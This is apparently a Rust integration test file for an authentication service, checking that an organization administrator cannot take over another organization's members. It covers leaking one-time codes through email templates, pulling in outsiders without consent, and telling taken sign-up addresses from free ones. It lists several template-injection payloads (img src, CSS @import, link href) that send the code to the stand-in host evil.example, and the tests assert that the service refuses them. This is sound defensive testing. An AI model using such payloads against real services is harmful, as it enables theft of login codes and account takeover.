//! The account takeovers of issue 16, driven over HTTP as an attacker would: an
//! organization's administrator (an API credential of their own organization) against a
//! member of another.

use super::common::{ADMIN_KEY, TestApp};
use http::StatusCode;
use portcullis::directory::NewApiKey;
use serde_json::json;

/// An organization run by the attacker, with an API credential of its own that may change
/// its settings and roles, and one of its apps.
async fn attackers_org(test: &TestApp) -> (String, String, String) {
    let created = test
        .post(
            "/api/v1/organizations",
            json!({"name": "Evil", "slug": "evil"}),
            Some(ADMIN_KEY),
        )
        .await;
    assert_eq!(created.status, StatusCode::CREATED, "{}", created.body);
    let org = created.str("id");
    let key = test
        .auth
        .api_keys()
        .create(
            org.parse().unwrap(),
            &NewApiKey::new(
                "evil admin",
                &["organizations:write", "roles:read", "roles:write"],
            ),
        )
        .await
        .unwrap();
    let client = test
        .app_in(org.parse().unwrap(), "https://evil.example/cb")
        .await;
    (org, key.secret.secret().to_owned(), client)
}

/// Checklist ADM-07, ML-05 (issue 16, item 1): whatever an organization's administrator
/// writes into its message settings, a member's code never lands in a URL of the message.
#[tokio::test]
async fn an_org_admin_cannot_carry_a_code_off_through_its_templates() {
    let test = TestApp::new();
    let (org, key, client) = attackers_org(&test).await;
    let victim = "victim@example.com";
    test.token_for(victim).await;
    let html = |html: &str| {
        json!({"kind": "email_code", "locale": null, "subject": "Your code",
            "text": "{{code}}", "html": html})
    };
    let payloads = [
        html(r#"<img src="https://evil.example/p?c={{ code }}">"#),
        html(r#"<style>@import url(https://evil.example/{{code}});</style>"#),
        html(r#"<p title="a>b">x</p><img src="https://evil.example/?c={{code}}">"#),
        html(r#"<a href='https://evil.example/?c={{code}}'>x</a>"#),
        json!({"kind": "email_code", "intro": r#"<img src="https://evil.example/p?c={{ code }}">"#}),
        json!({"kind": "email_code", "outro": "<img src=https://evil.example/p>{{code}}"}),
        json!({"kind": "email_code", "subject": "https://evil.example/{{ code }}"}),
    ];
    let path = format!("/api/v1/organizations/{org}");
    let patch = |wording: serde_json::Value| {
        let body = json!({"settings": {"templates": [wording]}});
        test.patch(&path, body, Some(&key))
    };
    // Every way of placing the code is refused when the settings are saved.
    for (n, wording) in payloads.into_iter().enumerate() {
        let patched = patch(wording).await;
        assert_eq!(
            patched.status,
            StatusCode::BAD_REQUEST,
            "payload {n}: {}",
            patched.body
        );
    }
    // What an organization may say reaches the message as words, and the code only where
    // the engine puts it.
    let words = json!({"kind": "email_code", "intro": "<b>Evil</b> says:"});
    let patched = patch(words).await;
    assert_eq!(patched.status, StatusCode::OK, "{}", patched.body);
    test.advance(std::time::Duration::from_secs(61));
    let sent = test
        .post(
            &format!("/api/v1/auth/passwordless/email-code?client_id={client}"),
            json!({"email": victim}),
            None,
        )
        .await;
    assert_eq!(sent.status, StatusCode::OK, "{}", sent.body);
    let mail = test.mail.sent().pop().unwrap();
    let code = mail.message.code.as_ref().unwrap().secret().to_owned();
    let html = mail.html.clone().unwrap_or_default();
    assert!(html.contains("&lt;b&gt;Evil&lt;/b&gt; says:"), "{html}");
    assert_eq!(html.matches(code.as_str()).count(), 1, "{html}");
    assert!(!html.contains("<img") && !html.contains("href="), "{html}");
}

/// Checklist ADM-01 (issue 16, item 1; DESIGN invariant 16): an organization's
/// administrator cannot make someone from outside a member; the person accepts an
/// invitation, or an installation-level administrator adds them.
#[tokio::test]
async fn an_org_admin_cannot_pull_an_outsider_into_its_organization() {
    let test = TestApp::new();
    let (org, key, _) = attackers_org(&test).await;
    let victim = test.token_for("victim@example.com").await;
    let status = test.status_of(&victim).await;
    let victim_id = status.body["user_id"].as_str().unwrap().to_owned();
    let pulled = test
        .put(
            &format!("/api/v1/users/{victim_id}/organizations/{org}/roles"),
            json!({"roles": []}),
            Some(&key),
        )
        .await;
    assert!(
        pulled.status == StatusCode::FORBIDDEN || pulled.status == StatusCode::NOT_FOUND,
        "{} {}",
        pulled.status,
        pulled.body
    );
    let memberships = test
        .auth
        .rbac()
        .memberships(victim_id.parse().unwrap())
        .await
        .unwrap();
    assert!(
        memberships
            .iter()
            .all(|m| m.org_id.to_string() != org.as_str()),
        "the victim became a member without consent"
    );
    // The organization invites instead; the token is useless to anyone but the person
    // who proved the invited address, and works once.
    let invited = test
        .post(
            &format!("/api/v1/organizations/{org}/invitations"),
            json!({"email": "victim@example.com", "roles": []}),
            Some(&key),
        )
        .await;
    assert_eq!(invited.status, StatusCode::CREATED, "{}", invited.body);
    let token = invited.str("token");
    let someone_else = test.token_for("mallory@example.com").await;
    let stolen = test
        .post(
            "/api/v1/invitations/accept",
            json!({"token": token}),
            Some(&someone_else),
        )
        .await;
    assert_eq!(stolen.status, StatusCode::FORBIDDEN, "{}", stolen.body);
    let accepted = test
        .post(
            "/api/v1/invitations/accept",
            json!({"token": token}),
            Some(&victim),
        )
        .await;
    assert_eq!(accepted.status, StatusCode::OK, "{}", accepted.body);
    assert_eq!(accepted.body["org_id"], org.as_str());
    let again = test
        .post(
            "/api/v1/invitations/accept",
            json!({"token": token}),
            Some(&victim),
        )
        .await;
    assert_eq!(again.status, StatusCode::UNAUTHORIZED, "{}", again.body);
    // Now a member, the organization sets their roles; the installation's own
    // administrator may add anyone.
    let roles = test
        .put(
            &format!("/api/v1/users/{victim_id}/organizations/{org}/roles"),
            json!({"roles": []}),
            Some(&key),
        )
        .await;
    assert_eq!(roles.status, StatusCode::OK, "{}", roles.body);
    let mallory = test.status_of(&someone_else).await.str("user_id");
    let added = test
        .put(
            &format!("/api/v1/users/{mallory}/organizations/{org}/roles"),
            json!({"roles": []}),
            Some(ADMIN_KEY),
        )
        .await;
    assert_eq!(added.status, StatusCode::OK, "{}", added.body);
}

/// The keys of a JSON answer, sorted: two answers alike in shape have the same.
fn shape(answer: &super::common::Answer) -> Vec<String> {
    let mut keys: Vec<String> = answer
        .body
        .as_object()
        .map(|o| o.keys().cloned().collect())
        .unwrap_or_default();
    keys.sort();
    keys
}

/// Checklist ENUM-03 (issue 16, item 4): a password sign-up answers a taken address as it
/// answers a free one (the owner is told by email), and sign-ups are budgeted per client
/// before any password is hashed.
#[tokio::test]
async fn a_password_sign_up_tells_nobody_who_has_an_account() {
    let test = TestApp::new();
    test.token_for("ana@example.com").await;
    test.advance(std::time::Duration::from_secs(31));
    // From one client address, as a socket would give it.
    let peer: std::net::SocketAddr = "198.51.100.23:40000".parse().unwrap();
    let sign_up = |email: &str| {
        let body = json!({"email": email, "password": "a long and unusual passphrase"});
        let path = "/api/v1/auth/password/signup";
        test.call_with(
            axum::http::Method::POST,
            path,
            Some(body),
            None,
            &[],
            Some(peer),
        )
    };
    let taken = sign_up("ana@example.com").await;
    let free = sign_up("bo@example.com").await;
    assert_eq!(taken.status, free.status, "{} / {}", taken.body, free.body);
    assert_eq!(
        shape(&taken),
        shape(&free),
        "{} / {}",
        taken.body,
        free.body
    );
    let notice = test
        .mail
        .sent()
        .into_iter()
        .rev()
        .find(|m| m.to.as_str() == "ana@example.com");
    assert_eq!(
        notice.map(|m| m.message.kind),
        Some(portcullis::MessageKind::SignUpAttempt),
        "the owner hears that someone tried"
    );
    // Once the client's budget is spent, every sign-up is refused before any hashing.
    let mut refused = None;
    for n in 0..60 {
        let answer = sign_up(&format!("user{n}@example.com")).await;
        if answer.status == StatusCode::TOO_MANY_REQUESTS {
            refused = Some(n);
            break;
        }
    }
    assert!(refused.is_some(), "sign-ups from one client are budgeted");
}
